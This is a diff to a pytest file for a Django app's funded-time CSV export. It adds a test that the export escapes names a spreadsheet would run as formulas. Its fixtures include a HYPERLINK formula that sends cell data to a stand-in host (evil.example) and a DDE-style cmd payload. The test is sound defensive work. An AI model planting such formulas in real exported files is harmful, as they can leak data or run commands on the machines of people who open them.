@@ -13,7 +13,8 @@ pytestmark = pytest.mark.django_db
 def _csv(client) -> list[list[str]]:
     response = client.get(url("funded-time-csv"))
     assert response["Content-Type"].startswith("text/csv")
-    return list(csv.reader(io.StringIO(response.content.decode())))
+    body = b"".join(response.streaming_content).decode("utf-8-sig")
+    return list(csv.reader(io.StringIO(body)))
 
 
 def test_it_totals_funded_days_by_role_and_organisation(login):
@@ -48,3 +49,20 @@ def test_it_exports_a_csv_of_every_funded_assignment(login):
     rows = _csv(login("director"))
     assert rows[0] == ["Role", "Person", "Organisation", "From", "Until", "Funded", "Days a year"]
     assert ["Director", "Ruth Okonjo", "Crampton Primary School"] in [row[:3] for row in rows]
+
+
+def test_it_neutralises_names_a_spreadsheet_would_run_as_formulas(login):
+    director = person("Ruth Okonjo")
+    director.full_name = '=HYPERLINK("https://evil.example/?"&A1,"Ruth")'
+    director.save()
+    school = director.organisation
+    school.name = "\t@SUM(1+1)*cmd|' /C calc'!A0"
+    school.save()
+    response = login("director").get(url("funded-time-csv"))
+    body = b"".join(response.streaming_content)
+    assert body.startswith("\ufeff".encode())  # Excel then reads the names as UTF-8
+    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
+    [row] = [row for row in rows if row[0] == "Director"]
+    assert row[1] == '\'=HYPERLINK("https://evil.example/?"&A1,"Ruth")'
+    assert row[2] == "'\t@SUM(1+1)*cmd|' /C calc'!A0"
+    assert rows[-1][-1] == "220.5"  # numbers stay numbers
